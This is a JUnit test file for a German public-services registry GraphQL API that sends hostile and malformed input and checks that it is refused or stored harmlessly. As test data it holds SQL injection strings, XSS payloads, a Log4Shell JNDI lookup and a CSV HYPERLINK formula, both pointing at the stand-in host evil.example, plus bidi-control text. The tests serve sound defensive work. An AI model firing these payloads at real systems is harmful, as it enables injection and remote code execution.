package de.ozgregistry.security;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import de.ozgregistry.support.ApiTest;

import org.springframework.beans.factory.annotation.Value;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile and broken input: each case gets a clear error (or, for text that is merely unusual, is stored verbatim),
 * nothing is persisted by a failed call, and the server keeps serving afterwards.
 */
class BadInputTest extends ApiTest {

	private static final String PUBLISH = """
			mutation($input: PublishSolutionInput!) { publishSolution(input: $input) { solution { id name summary } } }""";

	private static final String INJECTION = "x'); drop table solution; --";

	@Value("${local.server.port}")
	int port;

	private List<Long> before;

	@BeforeEach
	void rememberState() {
		before = state();
	}

	@AfterEach
	void serverStillServes() {
		execute("{ ozgService(ozgId: 10000) { name } }").path("ozgService.name").entity(String.class)
			.isEqualTo("Elterngeld");
	}

	private List<Long> state() {
		return List.of(count("select count(*) from solution"), count("select count(*) from adoption"),
				count("select count(*) from organization"), count("select count(*) from change_log"));
	}

	private Map<String, Object> solution(String field, Object value) {
		Map<String, Object> input = new HashMap<>();
		input.put("name", "Eingabetest");
		input.put("summary", "s");
		input.put("providerId", municipality("073150000000"));
		input.put("ozgIds", List.of(10160));
		input.put("reuseModel", "OPEN_SOURCE");
		input.put("lifecycle", "PRODUCTION");
		input.put(field, value);
		return input;
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "0", "07315", "07315000000", "0731500000000", "07315000000O", "073150000000 ",
			"' or 1=1 --", "073150000000'; drop table organization; --", "<script>alert(1)</script>",
			"１２３４５６７８９０１２", "99000000000", "990000000000", "\u0000\u0000" })
	void malformedArsIsAValidationErrorEverywhere(String ars) {
		assertError(execute("query($a: String) { organization(ars: $a) { name } }", Map.of("a", ars)),
				"VALIDATION_FAILED", "ars");
		assertError(execute("query($a: String) { organizations(filter: { parentArs: $a }) { totalCount } }",
				Map.of("a", ars)), "VALIDATION_FAILED", "filter.parentArs");
		assertError(execute("mutation($a: String) { registerOrganization(input: { kind: MUNICIPAL_ASSOCIATION, name: \"Amt\", ars: $a }) { organization { id } } }",
				Map.of("a", ars)), "VALIDATION_FAILED", "input.ars");
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "name:201", "summary:501", "description:10001", "termsAndCosts:5001", "contactPerson:301",
			"releaseVersion:51", "licence:201", "repositoryUrl:501", "description:100000" })
	void oversizedStringsAreRefused(String fieldAndLength) {
		String[] parts = fieldAndLength.split(":");
		String value = parts[0].endsWith("Url") ? "https://example.org/" + "a".repeat(Integer.parseInt(parts[1]))
				: "ä".repeat(Integer.parseInt(parts[1]));
		assertError(execute(PUBLISH, Map.of("input", solution(parts[0], value))), "VALIDATION_FAILED",
				"input." + parts[0]);
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "ozgIds:51", "leikaKeys:201", "standards:51" })
	void oversizedListsAreRefused(String fieldAndSize) {
		String[] parts = fieldAndSize.split(":");
		int size = Integer.parseInt(parts[1]);
		List<?> value = switch (parts[0]) {
			case "ozgIds" -> IntStream.range(10000, 10000 + size).boxed().toList();
			case "leikaKeys" -> IntStream.range(0, size).mapToObj(i -> String.format("99%012d", i)).toList();
			default -> IntStream.range(0, size).mapToObj(i -> "Standard " + i).toList();
		};
		assertError(execute(PUBLISH, Map.of("input", solution(parts[0], value))), "VALIDATION_FAILED",
				"input." + parts[0]);
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { INJECTION, "<script>alert(document.cookie)</script>", "Robert'); DROP TABLE adoption;--",
			"${jndi:ldap://evil.example/a}", "{{7*7}}", "\\\"; } mutation { x }", "Straße & Söhne <b>GmbH</b>" })
	void injectionAttemptsInTextAreStoredVerbatimAndHarmless(String text) {
		var response = execute(PUBLISH, Map.of("input", solution("summary", text)));
		response.path("publishSolution.solution.summary").entity(String.class).isEqualTo(text);
		assertThat(count("select count(*) from solution")).isEqualTo(before.get(0) + 1);
		assertThat(count("select count(*) from organization")).isEqualTo(before.get(2));
		execute("query($n: String) { organizations(filter: { name: $n }) { totalCount } }", Map.of("n", text))
			.path("organizations.totalCount").entity(Integer.class).isEqualTo(0);
	}

	@ParameterizedTest
	@ValueSource(strings = { "lone high surrogate:Hunde\uD83Dsteuer", "lone low surrogate:\uDE00Hundesteuer",
			"NUL:Hunde\u0000steuer", "escape:Hunde\u001Bsteuer", "bell:\u0007" })
	void invalidUnicodeIsAValidationError(String labelled) {
		String text = labelled.substring(labelled.indexOf(':') + 1);
		assertError(execute(PUBLISH, Map.of("input", solution("name", text))), "VALIDATION_FAILED", "input.name");
		assertError(execute("query($n: String) { organizations(filter: { name: $n }) { totalCount } }",
				Map.of("n", text)), "VALIDATION_FAILED", "filter.name");
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "invalid utf-8", "truncated json", "not json", "huge body" })
	void brokenRequestBodiesGetAClientErrorWithoutDetails(String kind) {
		byte[] body = switch (kind) {
			case "invalid utf-8" -> new byte[] { '{', '"', 'q', 'u', 'e', 'r', 'y', '"', ':', '"', (byte) 0xC3, 0x28,
					'"', '}' };
			case "truncated json" -> "{\"query\":\"{ themenfelder { name } }".getBytes(StandardCharsets.UTF_8);
			case "not json" -> "query=themenfelder".getBytes(StandardCharsets.UTF_8);
			default -> ("{\"query\":\"{ themenfelder { name } }\",\"variables\":{\"x\":\"" + "a".repeat(3_000_000)
					+ "\"}}").getBytes(StandardCharsets.UTF_8);
		};
		WebTestClient.bindToServer()
			.baseUrl("http://localhost:" + port)
			.build()
			.post()
			.uri("/graphql")
			.contentType(MediaType.APPLICATION_JSON)
			.bodyValue(body)
			.exchange()
			.expectStatus()
			.value(status -> assertThat(status).isBetween(400, 499))
			.expectBody(String.class)
			.value(text -> assertThat(text == null ? "" : text).doesNotContain("Exception", "at org.", "at java."));
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(ints = { 13, 20, 50, 200 })
	void deeplyNestedQueriesAreRefused(int depth) {
		StringBuilder query = new StringBuilder("{ organization(ars: \"073150000000\") ");
		for (int i = 0; i < depth; i++) {
			query.append("{ parent ");
		}
		query.append("{ name }").append(" }".repeat(depth)).append(" }");
		assertError(execute(query.toString()), "QUERY_TOO_COMPLEX", null);
	}

	@ParameterizedTest
	@ValueSource(ints = { 1_000, 5_000 })
	void hugeQueriesAreRefused(int aliases) {
		StringBuilder query = new StringBuilder("{ ");
		for (int i = 0; i < aliases; i++) {
			query.append("a").append(i).append(": themenfelder { name } ");
		}
		query.append("}");
		assertError(execute(query.toString()), "QUERY_TOO_COMPLEX", null);
	}

	@Test
	void aTimelineWithANullIntervalIsAValidationError() {
		assertError(execute("{ timeline(from: \"2024-01-01\", interval: null) { date } }"), "VALIDATION_FAILED",
				"interval");
		assertError(execute("query($i: TimelineInterval) { timeline(from: \"2024-01-01\", interval: $i) { date } }",
				nullVariable("i")), "VALIDATION_FAILED", "interval");
	}

	@ParameterizedTest
	@ValueSource(ints = { Integer.MAX_VALUE, 100_000_001, -1, Integer.MIN_VALUE })
	void anImpossiblePopulationIsAValidationError(int population) {
		assertError(execute("""
				mutation($p: Int) { registerOrganization(input: { kind: IT_SERVICE_PROVIDER, name: "Einwohnertest",
				  population: $p }) { organization { id } } }""", Map.of("p", population)), "VALIDATION_FAILED",
				"input.population");
		String mainz = municipality("073150000000");
		assertError(execute("""
				mutation($id: ID!, $p: Int) { updateOrganization(input: { id: $id, expectedVersion: 1, population: $p })
				  { organization { id } } }""", Map.of("id", mainz, "p", population)), "VALIDATION_FAILED",
				"input.population");
		assertThat(state()).isEqualTo(before);
	}

	/** Every text argument and filter refuses NUL, lone surrogates and bidirectional controls. */
	@ParameterizedTest
	@ValueSource(strings = { "Hunde\u0000steuer", "Hunde\uD83Dsteuer", "\u202Erueckwaerts", "Links\u202Aeingebettet",
			"isoliert\u2066x\u2069", "Hunde\u001Bsteuer" })
	void hostileTextIsAValidationErrorInEveryFilterAndArgument(String text) {
		Map<String, String> documents = new java.util.LinkedHashMap<>();
		documents.put("query($t: String) { ozgServices(filter: { name: $t }) { totalCount } }", "filter.name");
		documents.put("query($t: String) { solutions(filter: { name: $t }) { totalCount } }", "filter.name");
		documents.put("query($t: String) { organizations(filter: { name: $t }) { totalCount } }", "filter.name");
		documents.put("query($t: String!) { search(query: $t) { totalCount } }", "query");
		documents.put("query($t: String) { regionReport(within: $t) { __typename } }", "within");
		documents.put("query($t: String) { timeline(from: \"2024-01-01\", within: $t) { date } }", "within");
		documents.put("query($t: String!) { leikaService(key: $t) { name } }", "key");
		documents.put("query($t: String) { ozgServices(after: $t) { totalCount } }", "after");
		documents.put("query($t: String) { search(query: \"Hund\", filter: { land: $t }) { totalCount } }",
				"filter.land");
		documents.put("""
				mutation($t: String) { registerOrganization(input: { kind: VENDOR, name: "Hostiltest", website: $t })
				  { organization { id } } }""", "input.website");
		documents.forEach((document, field) -> assertError(execute(document, Map.of("t", text)), "VALIDATION_FAILED",
				field));
		for (String field : List.of("name", "summary", "description", "releaseVersion", "contactPerson", "licence")) {
			assertError(execute(PUBLISH, Map.of("input", solution(field, text))), "VALIDATION_FAILED", "input." + field);
		}
		assertError(execute(PUBLISH, Map.of("input", solution("standards", List.of("XÖV", text)))), "VALIDATION_FAILED",
				"input.standards");
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "name", "summary", "releaseVersion", "contactPerson", "licence" })
	void lineBreaksInSingleLineFieldsAreRefused(String field) {
		for (String text : List.of("erste\nzweite", "erste\rzweite", "erste\u2028zweite", "erste\u0085zweite")) {
			assertError(execute(PUBLISH, Map.of("input", solution(field, text))), "VALIDATION_FAILED", "input." + field);
		}
		assertError(execute("query($t: String) { solutions(filter: { name: $t }) { totalCount } }",
				Map.of("t", "a\nb")), "VALIDATION_FAILED", "filter.name");
		assertError(execute("""
				mutation($t: String!) { registerOrganization(input: { kind: VENDOR, name: $t }) { organization { id } } }""",
				Map.of("t", "Zeile\nUmbruch")), "VALIDATION_FAILED", "input.name");
		assertThat(state()).isEqualTo(before);
	}

	@Test
	void lineBreaksInATokenLabelOrAnAdoptedVersionAreRefused() {
		long tokens = count("select count(*) from api_token");
		assertError(execute("""
				mutation { issueApiToken(input: { organizationArs: "073150000000", role: PUBLISHER,
				  label: "erste\\nzweite" }) { token } }"""), "VALIDATION_FAILED", "input.label");
		String solution = db.sql("select id::text from solution order by name limit 1")
			.map(row -> row.get(0, String.class)).one().block();
		assertError(execute("""
				mutation($input: RecordAdoptionInput!) { recordAdoption(input: $input) { adoption { id } } }""",
				Map.of("input", Map.of("organizationId", municipality("073150000000"), "solutionId", solution,
						"status", "PLANNED", "solutionVersion", "1.0\n2.0"))), "VALIDATION_FAILED",
				"input.solutionVersion");
		assertThat(count("select count(*) from api_token")).isEqualTo(tokens);
		assertThat(state()).isEqualTo(before);
	}

	@Test
	void lineBreaksAndRightToLeftMarksStayAllowedWhereTheyBelong() {
		var response = execute(PUBLISH, Map.of("input", solution("description", "Absatz eins\n\nAbsatz zwei")));
		response.path("publishSolution.solution.id").entity(String.class).satisfies(id -> assertThat(id).isNotBlank());
		execute(PUBLISH, Map.of("input", solution("name", "\u0645\u0631\u062D\u0628\u0627\u200F Lösung")))
			.path("publishSolution.solution.name").entity(String.class)
			.isEqualTo("\u0645\u0631\u062D\u0628\u0627\u200F Lösung");
	}

	@ParameterizedTest
	@CsvSource({ "ozgServices, c1:10000:\u0000", "solutions, c1:00000000-0000-0000-0000-000000000000:\u0000x",
			"organizations, c1:00000000-0000-0000-0000-000000000000:a\u0000", "search, c1:search:-5",
			"search, c1:search:2147483647", "duplicateEfforts, c1:duplicates:-5", "gaps, c1:gap:-5",
			"gaps, c1:gap:2147483647", "gaps, c1:gap:2147483600", "ozgServices, c1:x:y", "search, c1:gap:5",
			"adoptions, c1:00000000-0000-0000-0000-000000000000:2024-01-01T00:00:00Z",
			"ozgServices, c1:10000:" })
	void forgedCursorsAreAValidationErrorOfAfter(String list, String raw) {
		String cursor = Base64.getUrlEncoder().withoutPadding().encodeToString(raw.getBytes(StandardCharsets.UTF_8));
		String mainz = municipality("073150000000");
		String document = switch (list) {
			case "search" -> "query($a: String) { search(query: \"Hund\", after: $a) { totalCount } }";
			case "gaps" -> "query($a: String) { gaps(organization: \"" + mainz + "\", first: 100, after: $a) { totalCount } }";
			default -> "query($a: String) { " + list + "(after: $a) { totalCount } }";
		};
		assertError(execute(document, Map.of("a", cursor)), "VALIDATION_FAILED", "after");
	}

	@Test
	void anAlteredCursorIsAValidationErrorAndAGenuineOneWorks() {
		String end = execute("{ ozgServices(first: 2) { pageInfo { endCursor } } }").path("ozgServices.pageInfo.endCursor")
			.entity(String.class)
			.get();
		execute("query($a: String) { ozgServices(first: 2, after: $a) { edges { node { ozgId } } } }", Map.of("a", end))
			.path("ozgServices.edges").entityList(Object.class).hasSize(2);
		String raw = new String(Base64.getUrlDecoder().decode(end.substring(0, end.indexOf('.'))), StandardCharsets.UTF_8);
		String next = Base64.getUrlEncoder().withoutPadding()
			.encodeToString(raw.replaceAll(":[0-9]+:", ":10400:").getBytes(StandardCharsets.UTF_8));
		assertError(execute("query($a: String) { ozgServices(first: 2, after: $a) { totalCount } }",
				Map.of("a", next + end.substring(end.indexOf('.')))), "VALIDATION_FAILED", "after");
		String search = execute("{ search(query: \"Hund\", first: 1) { pageInfo { endCursor } } }")
			.path("search.pageInfo.endCursor").entity(String.class).get();
		execute("query($a: String) { search(query: \"Hund\", first: 1, after: $a) { totalCount } }", Map.of("a", search))
			.path("search.totalCount").entity(Integer.class).satisfies(n -> assertThat(n).isPositive());
		assertError(execute("query($a: String) { gaps(organization: \"" + municipality("073150000000")
				+ "\", after: $a) { totalCount } }", Map.of("a", search)), "VALIDATION_FAILED", "after");
	}

	@Test
	void formulasInCsvExportsAreNeutralised() {
		String ars = db.sql("""
				select o.ars from organization o where o.kind = 'MUNICIPALITY'
				and not exists (select 1 from adoption a where a.organization_id = o.id) order by o.ars limit 1""")
			.map(row -> row.get(0, String.class))
			.one()
			.block();
		String name = "=HYPERLINK(\"http://evil.example\",\"x\")";
		String solution = publishSolution(municipality("073150000000"), name, List.of(10160));
		recordAdoption(municipality(ars), solution, "LIVE");
		String csv = WebTestClient.bindToServer()
			.baseUrl("http://localhost:" + port)
			.build()
			.get()
			.uri("/export/top-solutions.csv?within=" + ars)
			.exchange()
			.expectStatus()
			.isOk()
			.expectBody(String.class)
			.returnResult()
			.getResponseBody();
		assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\";")
			.doesNotContain("\n=", "\n\"=");
	}

	private static Map<String, Object> nullVariable(String name) {
		Map<String, Object> variables = new HashMap<>();
		variables.put(name, null);
		return variables;
	}

}
